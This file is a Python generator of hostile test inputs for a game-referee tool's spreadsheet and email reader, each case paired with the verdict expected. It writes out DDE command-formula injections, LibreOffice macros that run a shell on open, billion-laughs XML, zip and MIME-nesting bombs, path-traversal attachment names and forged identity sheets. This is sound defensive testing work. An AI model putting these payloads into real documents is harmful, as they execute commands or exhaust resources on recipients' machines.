def _move(ctx: Context, fleet: object = "F1", origin: object = None, dest: object = None) -> dict:
    row = 11
    return {
        f"C{row}": fleet,
        f"D{row}": ctx.homes["Ann"] if origin is None else origin,
        f"E{row}": ctx.near["Ann"] if dest is None else dest,
    }


@case(
    "formula-with-value",
    "cell",
    "a formula in a quantity cell (its computed value is read)",
    0,
    "warning",
    "D30",
    "formula",
)
def _(ctx: Context, out: Path) -> None:
    home = ctx.homes["Ann"]
    edit_cells(ann(ctx), out, {"B30": home, "C30": "F"})
    data = out.read_bytes()
    out.unlink()
    tmp = out.with_suffix(".tmp.xlsx")
    tmp.write_bytes(data)
    edit_orders_xml(tmp, out, lambda xml: set_cell(xml, "D30", "<f>1+1</f><v>2</v>"))
    tmp.unlink()


@case(
    "formula-without-value",
    "cell",
    "a formula never calculated (no cached value)",
    1,
    "D30",
    "formula",
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, "D30", "<f>SUM(A1:A9)</f>"))


@case(
    "formula-dde",
    "cell",
    "a DDE command formula (=cmd|' /C calc'!A0) in a message",
    1,
    "C67",
    "formula",
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, "C67", "<f>cmd|' /C calc'!A0</f>"))


@case("formula-error-value", "cell", "a formula whose computed value is #REF!", 1, "C11", "#REF!")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx), out, lambda xml: set_cell(xml, "C11", "<f>#REF!+1</f><v>#REF!</v>", "e")
    )


@case("error-value", "cell", "the error value #DIV/0! typed into a fleet cell", 1, "C11", "#DIV/0!")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, "C11", "<v>#DIV/0!</v>", "e"))


@case("date-for-number", "cell", "a date where a hex number belongs", 1, "D11", "date")
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, _move(ctx, origin=datetime(2026, 12, 27)))


@case("huge-number", "cell", "1e308 as a quantity", 1, "D30", "not a quantity")
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, {"B30": ctx.homes["Ann"], "C30": "F", "D30": 1e308})


@case("infinite-number", "cell", "INF written as a number in a hex cell", 2, "could not be read")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx),
        out,
        lambda xml: set_cell(set_cell(xml, "C11", inline("F1"), "inlineStr"), "D11", "<v>INF</v>"),
    )


@case("negative-count", "cell", "-3 as a quantity", 1, "D30", "quantity")
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, {"B30": ctx.homes["Ann"], "C30": "F", "D30": -3})


@case("negative-fleet", "cell", "a fleet of F-3 squadrons", 1, "C11")
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, _move(ctx, fleet="F-3"))


@case(
    "lookalike-digits",
    "cell",
    "Arabic-Indic digits in a hex number",
    1,
    "D11",
    "looks like a digit",
)
def _(ctx: Context, out: Path) -> None:
    home = ctx.homes["Ann"]
    arabic = "".join(chr(0x0660 + int(d)) for d in home)
    edit_cells(ann(ctx), out, _move(ctx, origin=arabic))


@case(
    "fullwidth-and-dashes",
    "cell",
    "full-width digits and an en dash in a whole move line (read as meant)",
    0,
    "accepted",
)
def _(ctx: Context, out: Path) -> None:
    home, near = ctx.homes["Ann"], ctx.near["Ann"]
    wide = "".join(chr(0xFF10 + int(d)) for d in home)
    edit_cells(ann(ctx), out, {"C11": f"F1 \u2013 {wide} \u2014 {near}"})


@case(
    "right-to-left-override",
    "cell",
    "a right-to-left override that makes a hex read backwards on screen",
    1,
    "E11",
)
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, _move(ctx, dest="\u202e" + ctx.near["Ann"][::-1]))


@case("right-to-left-mark", "cell", "right-to-left marks around a fleet", 1, "C11")
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, _move(ctx, fleet="\u200fF1\u200f"))


@case("string-100kb-order", "cell", "a 100 kB string in a fleet cell", 1, "C11")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx), out, lambda xml: set_cell(xml, "C11", inline("F1 " * 34_000), "inlineStr")
    )


@case("string-100kb-message", "cell", "a 100 kB message", 1, "C67", "characters long")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx),
        out,
        lambda xml: set_cell(
            set_cell(xml, "B67", inline("*"), "inlineStr"),
            "C67",
            inline("spam " * 20_000),
            "inlineStr",
        ),
    )


@case("bool-in-hex", "cell", "TRUE in a hex cell", 1, "D11", "true/false")
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx),
        out,
        lambda xml: set_cell(
            set_cell(xml, "C11", inline("F1"), "inlineStr"), "D11", "<v>1</v>", "b"
        ),
    )


@case(
    "bad-shared-string", "cell", "a cell pointing at shared string 999999", 2, "could not be read"
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, "C11", "<v>999999</v>", "s"))


# -- cell, in any game: the first cell a player types into ------------------------------------------
# ``{cell}`` in the words is that cell, found in each game's genuine sheet (the first unlocked cell
# of its Orders page), so the same threats reach every game's reader.


@case(
    "first-input-formula",
    "cell",
    "a formula never calculated in the first input cell",
    1,
    "{cell}",
    "formula",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, ctx.input_cell, "<f>NOW()</f>"))


@case(
    "first-input-dde",
    "cell",
    "a DDE command formula (=cmd|' /C calc'!A0) in the first input cell",
    1,
    "{cell}",
    "formula",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(
        ann(ctx), out, lambda xml: set_cell(xml, ctx.input_cell, "<f>cmd|' /C calc'!A0</f>")
    )


@case(
    "first-input-error",
    "cell",
    "the error value #N/A in the first input cell",
    1,
    "{cell}",
    "#N/A",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, ctx.input_cell, "<v>#N/A</v>", "e"))


@case(
    "first-input-100kb",
    "cell",
    "a 100 kB string in the first input cell",
    1,
    "{cell}",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    text = inline("x1 " * 34_000)
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, ctx.input_cell, text, "inlineStr"))


@case(
    "first-input-shared-string",
    "cell",
    "the first input cell pointing at shared string 999999",
    2,
    "could not be read",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_orders_xml(ann(ctx), out, lambda xml: set_cell(xml, ctx.input_cell, "<v>999999</v>", "s"))


# -- identity: whose sheet, which turn -------------------------------------------------------------


@case(
    "other-players-fleets",
    "identity",
    "Ann orders Bob's home fleet to move",
    1,
    "D11",
    "no squadrons",
)
def _(ctx: Context, out: Path) -> None:
    edit_cells(ann(ctx), out, _move(ctx, origin=ctx.homes["Bob"], dest=ctx.near["Bob"]))


@case(
    "meta-player-changed",
    "identity",
    "Ann's sheet relabelled as Bob's in the hidden sheet",
    2,
    "signature does not match",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"player": ctx.second})


@case("token-copied", "identity", "Bob's sheet carrying Ann's token", 2, "signature does not match", every_game=True)
def _(ctx: Context, out: Path) -> None:
    wb = openpyxl.load_workbook(ann(ctx))
    token = next(r[1].value for r in wb["_meta"].iter_rows() if r[0].value == "token")
    edit_meta(ctx.sheets[ctx.second], out, {"token": token})


@case(
    "meta-step-changed",
    "identity",
    "last week's sheet relabelled as this week's",
    2,
    "signature does not match",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ctx.last_week, out, {"step": ctx.step, "year": ctx.step})


@case("last-weeks-sheet", "identity", "a genuine sheet of the previous turn", 1, "earlier turn", every_game=True)
def _(ctx: Context, out: Path) -> None:
    shutil.copyfile(ctx.last_week, out)


@case("meta-game-changed", "identity", "the game id in the hidden sheet edited", 2, "another game", every_game=True)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"game_id": "0123456789ab"})


@case("another-game", "identity", "a genuine sheet of another game", 2, "another game", every_game=True)
def _(ctx: Context, out: Path) -> None:
    shutil.copyfile(ctx.other_game, out)


@case(
    "meta-token-blank",
    "identity",
    "the token erased from the hidden sheet",
    2,
    "signature does not match",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"token": ""})


@case("meta-unknown-player", "identity", "a player who is not in the game", 2, "not in Corpus", every_game=True)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"player": "Mallory"})


@case(
    "meta-ruleset-changed",
    "identity",
    "the hidden sheet names other game rules",
    2,
    "does not know",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"ruleset": "tiddlywinks-3000"})


@case(
    "meta-format-version",
    "identity",
    "a layout version this refassist does not read",
    2,
    "layout version",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    edit_meta(ann(ctx), out, {"format_version": "99"})


@case(
    "meta-removed", "identity", "the hidden identity sheet deleted", 2, "not a refassist turn sheet"
, every_game=True)
def _(ctx: Context, out: Path) -> None:
    wb = openpyxl.load_workbook(ann(ctx))
    del wb["_meta"]
    wb.save(out)


@case(
    "duplicate-part-names",
    "identity",
    "two Orders parts of the same name: one for Excel, another for a careless reader",
    2,
    "same name",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in parts.items():
            zf.writestr(part, data)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr(
                name,
                set_cell(parts[name].decode(), ctx.input_cell, inline("F99"), "inlineStr").encode(),
            )


# -- structure: empty, bare, overfull --------------------------------------------------------------


@case("genuine-blank", "structure", "a genuine sheet with no orders (control case)", 0, "accepted", every_game=True)
def _(ctx: Context, out: Path) -> None:
    shutil.copyfile(ann(ctx), out)


@case(
    "empty-workbook",
    "structure",
    "a workbook with one empty sheet",
    2,
    "not a refassist turn sheet",
)
def _(ctx: Context, out: Path) -> None:
    openpyxl.Workbook().save(out)


@case(
    "header-only",
    "structure",
    "a home-made sheet with only the orders header",
    2,
    "not a refassist turn sheet",
)
def _(ctx: Context, out: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.append(["Turn", "Fleet", "Departure", "Destination", "Arrival"])
    wb.save(out)


@case("orders-sheet-removed", "structure", "the Orders sheet deleted", 2, "no sheet named", every_game=True)
def _(ctx: Context, out: Path) -> None:
    wb = openpyxl.load_workbook(ann(ctx))
    del wb["Orders"]
    wb.save(out)


@case(
    "ten-thousand-orders", "structure", "10,000 order rows pasted below the move table", 2, "rows"
, every_game=True)
def _(ctx: Context, out: Path) -> None:
    home, near = ctx.homes.get(ctx.first, "0101"), ctx.near.get(ctx.first, "0102")
    rows = "".join(
        f'<row r="{r}"><c r="B{r}"><v>{ctx.step}</v></c>'
        f'<c r="C{r}" t="inlineStr"><is><t>F1</t></is></c>'
        f'<c r="D{r}"><v>{home}</v></c><c r="E{r}"><v>{near}</v></c></row>'
        for r in range(200, 10_200)
    )
    edit_orders_xml(ann(ctx), out, lambda xml: xml.replace("</sheetData>", rows + "</sheetData>"))


# -- mail: who sent it -----------------------------------------------------------------------------


@case(
    "unknown-sender",
    "mail",
    "Ann's genuine sheet mailed from a stranger's address",
    1,
    "not a player",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(eml("Mallory <mallory@evil.invalid>", ann(ctx).read_bytes(), "Ann.xlsx"))


@case(
    "wrong-player-sender",
    "mail",
    "Ann's genuine sheet mailed from Bob's address",
    1,
    "each player sends their own",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(eml("Bob <bob@example.com>", ann(ctx).read_bytes(), "Ann.xlsx"))


@case(
    "path-traversal-name",
    "mail",
    "an attachment named ../../master.xlsx",
    1,
    "not a refassist turn sheet",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    wb = openpyxl.Workbook()
    buf = io.BytesIO()
    wb.save(buf)
    out.write_bytes(eml("Ann <ann@example.com>", buf.getvalue(), "../../master.xlsx"))


@case(
    "garbage-mail",
    "mail",
    "a message file of random bytes",
    1,
    "no turn sheet",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(b"From: Ann <ann@example.com>\r\n" + random.Random(9).randbytes(4000))


@case(
    "mail-bomb-attachments",
    "mail",
    "Ann's mail with 60 attachments",
    1,
    "not a refassist turn sheet",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    msg = EmailMessage()
    msg["From"] = "Ann <ann@example.com>"
    msg["To"] = "referee@example.invalid"
    msg["Subject"] = "many"
    msg.set_content("see attached")
    wb = openpyxl.Workbook()
    buf = io.BytesIO()
    wb.save(buf)
    for i in range(60):
        msg.add_attachment(
            buf.getvalue(), maintype=XLSX_TYPE[0], subtype=XLSX_TYPE[1], filename=f"sheet{i}.xlsx"
        )
    out.write_bytes(bytes(msg))


@case(
    "mime-nesting-bomb",
    "mail",
    "a message nested 5,000 multiparts deep",
    1,
    "could not be read",
    suffix=".eml",
    command="intake",
    status="refused",
)
def _(ctx: Context, out: Path) -> None:
    depth = 5000
    text = (
        "From: Ann <ann@example.com>\r\nTo: referee@example.invalid\r\nSubject: deep\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b0"\r\n\r\n'
    )
    for i in range(1, depth):
        text += f'--b{i - 1}\r\nContent-Type: multipart/mixed; boundary="b{i}"\r\n\r\n'
    text += f"--b{depth - 1}\r\nContent-Type: text/plain\r\n\r\norders\r\n"
    text += "".join(f"--b{i}--\r\n" for i in reversed(range(depth)))
    out.write_bytes(text.encode())


# -- ods: a turn sheet in LibreOffice's own format, held to the same rules -----------------------
# A genuine sheet written as an .ods (its values, its hidden sheets; what LibreOffice saves,
# tests/test_ods.py converts real ones), then made hostile the ways an .xlsx is.

ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
)
ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"
ODS_TEXT_CELL = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'


def ods_cell(value: object) -> str:
    """One cell of content.xml holding ``value`` as LibreOffice writes it."""
    if value is None:
        return "<table:table-cell/>"
    if isinstance(value, int | float) and not isinstance(value, bool):
        return (
            f'<table:table-cell office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )
    paragraphs = "".join(f"<text:p>{_xml_escape(line)}</text:p>" for line in str(value).split("\n"))
    return f'<table:table-cell office:value-type="string">{paragraphs}</table:table-cell>'


def ods_parts(
    sheet: Path,
    cells: dict[str, str] | None = None,
    first_rows: str = "",
    scripts: str = "<office:scripts/>",
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>',
) -> dict[str, bytes]:
    """The parts of an .ods holding what ``sheet`` holds: each worksheet's values, hidden ones
    hidden.  ``cells`` replaces Orders cells by reference with the given XML, ``first_rows`` goes
    before the Orders page's first row, ``scripts`` stands for the document's scripts."""
    workbook = openpyxl.load_workbook(sheet)
    tables = []
    for ws in workbook.worksheets:
        rows = []
        for row in ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=ws.max_column):
            xml = "".join(
                (cells or {}).get(c.coordinate, ods_cell(c.value))
                if ws.title == "Orders"
                else ods_cell(c.value)
                for c in row
            )
            rows.append(f"<table:table-row>{xml}</table:table-row>")
        style = "hidden" if ws.sheet_state != "visible" else "shown"
        extra = first_rows if ws.title == "Orders" else ""
        tables.append(
            f'<table:table table:name="{_xml_escape(ws.title)}" table:style-name="{style}">'
            f"{extra}{''.join(rows)}</table:table>"
        )
    styles = (
        '<style:style style:name="shown" style:family="table"><style:table-properties '
        'table:display="true"/></style:style><style:style style:name="hidden" '
        'style:family="table"><style:table-properties table:display="false"/></style:style>'
    )
    content = (
        f"{prolog}<office:document-content {ODF_NAMESPACES} office:version=\"1.3\">{scripts}"
        f"<office:automatic-styles>{styles}</office:automatic-styles><office:body>"
        f"<office:spreadsheet>{''.join(tables)}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return {
        "mimetype": ODS_MIMETYPE,
        "content.xml": content.encode("utf-8"),
        "META-INF/manifest.xml": manifest.encode("utf-8"),
    }


def write_ods(target: Path, parts: dict[str, bytes]) -> Path:
    """An .ods of ``parts``, its ``mimetype`` first and stored, as ODF requires."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            zf.writestr(name, data, compress_type=method)
    return target


def with_manifest_entry(parts: dict[str, bytes], entry: str) -> dict[str, bytes]:
    manifest = parts["META-INF/manifest.xml"].replace(
        b"</manifest:manifest>", entry.encode() + b"</manifest:manifest>"
    )
    return {**parts, "META-INF/manifest.xml": manifest}


@case("ods-genuine", "format", "a genuine sheet saved as .ods", 0, "accepted", suffix=".ods", every_game=True)
def _(ctx: Context, out: Path) -> None:
    write_ods(out, ods_parts(ann(ctx)))


@case("ods-renamed-xlsx", "format", "a genuine .ods renamed .xlsx (read by its bytes)", 0, "accepted")
def _(ctx: Context, out: Path) -> None:
    # With document properties, as LibreOffice writes them: other bytes than ods-genuine's.
    meta = b'<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
    write_ods(out, {**ods_parts(ann(ctx)), "meta.xml": meta})


@case(
    "ods-basic-macro",
    "macro",
    "an .ods carrying a LibreOffice Basic library",
    2,
    "macros",
    suffix=".ods",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    parts = with_manifest_entry(
        ods_parts(ann(ctx)),
        '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
        'manifest:media-type="text/xml"/>',
    )
    parts["Basic/Standard/Module1.xml"] = b'<module name="Module1">Sub Main\nShell("calc")\nEnd Sub</module>'
    write_ods(out, parts)


@case("ods-macro-on-open", "macro", "an .ods running a macro when it is opened", 2, "macros", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    listener = (
        '<office:scripts><office:event-listeners><script:event-listener script:language='
        '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
        'Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
        "</office:scripts>"
    )
    write_ods(out, ods_parts(ann(ctx), scripts=listener))


@case("ods-embedded-object", "macro", "an .ods with an embedded OLE object", 2, "embedded", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    parts = ods_parts(ann(ctx))
    parts["Object 1/content.xml"] = b"<office:document-content/>"
    write_ods(out, parts)


@case("ods-password", "format", "an .ods saved with a password", 2, "password", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    parts = with_manifest_entry(ods_parts(ann(ctx)), "<manifest:encryption-data/>")
    write_ods(out, parts)


@case(
    "ods-billion-laughs",
    "xml",
    "an .ods whose content.xml expands entities a billion times",
    2,
    "document type",
    suffix=".ods",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "&a{i - 1};&a{i - 1};&a{i - 1};&a{i - 1};&a{i - 1};">' for i in range(1, 14)
    )
    prolog = f'<?xml version="1.0"?><!DOCTYPE office:document-content [{entities}]>'
    laughing = '<table:table-cell office:value-type="string"><text:p>&a13;</text:p></table:table-cell>'
    write_ods(out, ods_parts(ann(ctx), cells={ctx.input_cell: laughing}, prolog=prolog))


@case("ods-zip-bomb-300mb", "size", "an .ods whose content.xml unpacks to 300 MB", 2, "unpacks to", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    parts = ods_parts(ann(ctx))
    row = f"<table:table-row>{ODS_TEXT_CELL}</table:table-row>".encode()
    head, _, tail = parts["content.xml"].partition(b"<table:table-row>")
    streamed_member(out, parts, "content.xml", head, row * 4096, 300 * MB, b"<table:table-row>" + tail)


@case(
    "ods-million-rows",
    "size",
    "an .ods row of text repeated a million times (one element)",
    2,
    "row 1,000,000",
    suffix=".ods",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    row = f'<table:table-row table:number-rows-repeated="1000000">{ODS_TEXT_CELL}</table:table-row>'
    write_ods(out, ods_parts(ann(ctx), first_rows=row))


@case("ods-ten-thousand-rows", "size", "an .ods row of text repeated 10,000 times", 2, "rows", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    row = f'<table:table-row table:number-rows-repeated="10000">{ODS_TEXT_CELL}</table:table-row>'
    write_ods(out, ods_parts(ann(ctx), first_rows=row))


@case("ods-every-column", "size", "an .ods cell of text repeated over all 16,384 columns of 10 rows", 2, "cells", suffix=".ods")
def _(ctx: Context, out: Path) -> None:
    wide = ODS_TEXT_CELL.replace(">", ' table:number-columns-repeated="16384">', 1)
    row = f'<table:table-row table:number-rows-repeated="10">{wide}</table:table-row>'
    write_ods(out, ods_parts(ann(ctx), first_rows=row))


@case(
    "ods-formula-with-value",
    "cell",
    "an .ods formula in a quantity cell (its computed value is read)",
    0,
    "warning",
    "D30",
    "formula",
    suffix=".ods",
)
def _(ctx: Context, out: Path) -> None:
    formula = (
        '<table:table-cell table:formula="of:=1+1" office:value-type="float" office:value="2">'
        "<text:p>2</text:p></table:table-cell>"
    )
    cells = {"B30": ods_cell(ctx.homes["Ann"]), "C30": ods_cell("F"), "D30": formula}
    write_ods(out, ods_parts(ann(ctx), cells=cells))


@case(
    "ods-first-input-formula",
    "cell",
    "an .ods formula never calculated in the first input cell",
    1,
    "{cell}",
    "formula",
    suffix=".ods",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    cells = {ctx.input_cell: '<table:table-cell table:formula="of:=NOW()"/>'}
    write_ods(out, ods_parts(ann(ctx), cells=cells))


@case(
    "ods-first-input-error",
    "cell",
    "an .ods error value (#N/A) in the first input cell",
    1,
    "{cell}",
    "#N/A",
    suffix=".ods",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    error = (
        '<table:table-cell table:formula="of:=NA()" office:value-type="string" '
        'office:string-value="" calcext:value-type="error"><text:p>#N/A</text:p>'
        "</table:table-cell>"
    )
    write_ods(out, ods_parts(ann(ctx), cells={ctx.input_cell: error}))


# --------------------------------------------------------------------------------------------


#: The games whose sheets the ``every_game`` cases are also made from (Fifth Millennium's game,
#: the first, gets every case).
OTHER_GAMES = tuple(r.name for r in RULESETS if r.name != "fifth-millennium")


def build(out: Path) -> list[dict[str, object]]:
    """Write the games and every case into ``out``; returns the manifest (also cases.json).

    Fifth Millennium's game is ``out/game`` with every case in ``out/cases``; each other game
    is ``out/RULESET/game`` with the cases that hold for any game in ``out/RULESET/cases``."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    manifest = _build_cases(out, out, make_game(out), "fifth-millennium", CASES)
    every = [c for c in CASES if c.every_game]
    for name in OTHER_GAMES:
        folder = out / name
        folder.mkdir(exist_ok=True)
        manifest += _build_cases(out, folder, make_any_game(folder, name), name, every)
    (out / "cases.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return manifest


def _build_cases(
    top: Path, folder: Path, ctx: Context, ruleset: str, cases: list[Case]
) -> list[dict[str, object]]:
    """Write ``cases`` from ``ctx``'s sheets into ``folder/cases``; paths in the manifest are
    relative to ``top``, the corpus folder."""
    (folder / "cases").mkdir(exist_ok=True)
    manifest: list[dict[str, object]] = []
    for c in cases:
        target = folder / "cases" / f"{c.name}{c.suffix}"
        c.build(ctx, target)
        manifest.append(
            {
                "ruleset": ruleset,
                "name": c.name,
                "game": (folder / "game").relative_to(top).as_posix(),
                "file": target.relative_to(top).as_posix(),
                "threat": c.threat,
                "description": c.description,
                "command": c.command,
                "code": c.code,
                "words": [w.format(cell=ctx.input_cell) for w in c.words],
                "status": c.status,
            }
        )
    return manifest


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: python tests/corpus/make_corpus.py OUT", file=sys.stderr)
        return 2
    manifest = build(Path(argv[1]))
    for item in manifest:
        print(
            f"{item['code']}  {item['command']:6}  {item['ruleset']:20} {item['name']:28} "
            f"{item['description']}"
        )
    print(f"{len(manifest)} cases in {argv[1]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
